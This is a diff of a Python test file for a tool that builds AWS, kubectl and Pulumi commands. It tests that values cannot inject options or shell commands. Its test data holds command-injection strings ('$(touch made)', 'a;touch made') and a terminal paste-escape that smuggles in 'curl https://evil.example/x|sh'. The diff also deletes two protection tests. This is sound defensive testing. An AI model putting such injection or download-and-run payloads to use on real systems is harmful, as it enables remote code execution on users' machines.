@@ -12,7 +12,7 @@ from irsa.rules import commands
 
 ISSUER = "https://oidc.eks.us-west-2.amazonaws.com/id/EXAMPLE"
 HOSTILE = (
-    *("a b", "a;touch made", "$(touch made)", "`touch made`", "it's", 'say "x"', "a & b", "", "*", "# none", "=ls"),
+    *("a b", "a;touch made", "$(touch made)", "`touch made`", "it's", 'say "x"', "a & b", "*", "# none", "{stack}"),
     *("~", "!!", "日本"),
 )
 UNPASTABLE = ("a\nb", "a\x1b[201~\x03\ncurl https://evil.example/x|sh\n", "a\u202eb", "a\ud800", "a\r")
@@ -23,7 +23,7 @@ CALLS: dict[str, tuple[Callable[[str], str], list[str]]] = {
     "up_of_guard": (commands.up_of_guard, ["pulumi", "up", "--refresh", "--skip-preview", "--stack", "{}"]),
     "create_provider": (
         lambda value: commands.create_provider(value, ["sts.amazonaws.com", "ci"]),
-        ["aws", "iam", "create-open-id-connect-provider", "--url", "{}", "--client-id-list", "ci", "sts.amazonaws.com"],
+        ["aws", "iam", "create-open-id-connect-provider", "--url={}", "--client-id-list", "ci", "sts.amazonaws.com"],
     ),
     "associate_provider": (
         lambda value: commands.associate_provider(value, ISSUER, region="eu-west-1"),
@@ -34,7 +34,7 @@ CALLS: dict[str, tuple[Callable[[str], str], list[str]]] = {
     ),
     "associate_provider for another audience": (
         lambda value: commands.associate_provider("prod", ISSUER, [value]),
-        ["aws", "iam", "create-open-id-connect-provider", "--url", ISSUER, "--client-id-list", "{}"],
+        ["aws", "iam", "create-open-id-connect-provider", f"--url={ISSUER}", "--client-id-list", "{}"],
     ),
     "add_client_id": (
         lambda value: commands.add_client_id("arn:p", value),
@@ -78,7 +78,7 @@ CALLS: dict[str, tuple[Callable[[str], str], list[str]]] = {
         lambda value: commands.wait_for_cluster(value, "eu-west-1"),
         ["aws", "eks", "wait", "cluster-active", "--name", "{}", "--region", "eu-west-1"],
     ),
-    "list_arns": (lambda _: commands.list_arns("oidc-provider"), ["aws", "iam", "list-open-id-connect-providers"]),
+    "list_arns": (lambda _: commands.LIST_ARNS["oidc-provider"], ["aws", "iam", "list-open-id-connect-providers"]),
     "remove_annotations": (
         lambda value: commands.remove_annotations("team-a", "app", value, "a/b"),
         ["kubectl", "annotate", "serviceaccount", "app", "-n", "team-a", "{}-", "a/b-"],
@@ -100,7 +100,7 @@ CALLS: dict[str, tuple[Callable[[str], str], list[str]]] = {
         [*("kubectl", "annotate", "serviceaccount", "app", "-n", "{}", "--context", "blue", "--overwrite"), "a/b=c"],
     ),
     "restart": (
-        lambda value: commands.restart("Deployment", value, "team-a"),
+        lambda value: commands.restart(f"deployment/{value}", "team-a"),
         ["kubectl", "rollout", "restart", "deployment/{}", "-n", "team-a"],
     ),
     "delete_pod": (
@@ -117,7 +117,7 @@ CALLS: dict[str, tuple[Callable[[str], str], list[str]]] = {
     ),
     "prove": (commands.prove, ["irsa", "prove", "{}"]),
     "pulumi": (lambda value: commands.pulumi("preview", value), ["pulumi", "preview", "--stack", "{}"]),
-    "diff": (lambda value: commands.diff("a..b", value, stack="x"), ["irsa", "diff", "a..b", "{}", "--stack", "x"]),
+    "diff": (lambda value: commands.diff(["a..b", value], "x"), ["irsa", "diff", "a..b", "{}", "--stack", "x"]),
     "of_stack": (lambda value: commands.of_stack("verify", value), ["irsa", "verify", "--stack", "{}"]),
     "check": (commands.check, ["irsa", "check", "{}"]),
 }
@@ -143,10 +143,8 @@ def test_a_value_is_no_option(name: str, value: str) -> None:
     The attack: a Pod, a policy, an audience or a file whose name begins with a hyphen.
     """
     words = shlex.split(CALLS[name][0](value))
-    options = words[: words.index("--")] if "--" in words else words
 
-    assert any(value in word for word in words)
-    assert not [word for word in options if word.startswith(value)]
+    assert not [word for word in words if word.startswith(value)]
 
 
 # https://docs.aws.amazon.com/cli/latest/userguide/cli-usage-parameters-file.html; version 1 fetches a URL, too:
@@ -233,11 +231,6 @@ def test_options_of_an_aws_account_are_left_out_where_they_are_not_known() -> No
     assert commands.list_clusters("eu-central-1", "data") == listing
 
 
-def test_zsh_replaces_no_word() -> None:
-    """Protects who pastes into zsh: it replaces a word such as =ls by the path of that program."""
-    assert commands.delete_inline_policy("r", "=ls") == "aws iam delete-role-policy --role-name r --policy-name '=ls'"
-
-
 @pytest.mark.parametrize("value", HOSTILE)
 def test_a_shell_runs_nothing_of_a_value(value: str) -> None:
     """Protects who pastes two commands joined by &&: a real shell sees the same words."""
@@ -248,11 +241,6 @@ def test_a_shell_runs_nothing_of_a_value(value: str) -> None:
     made = ["kubectl", "create", "serviceaccount", value, "-n", value]
     assert answer.stdout == "".join(f"<{word}>" for word in [*made, "pulumi", "up", "--refresh", "--stack", value])
     assert answer.stderr == ""
-
-
-def test_a_value_is_not_taken_for_an_option() -> None:
-    """Protects policies whose names begin with a hyphen, which IAM allows and the AWS CLI takes for an option."""
-    assert commands.delete_inline_policy("r", "-p") == "aws iam delete-role-policy --role-name r --policy-name=-p"
 
 
 def test_an_account_that_the_stack_makes_is_the_stacks_to_make() -> None:
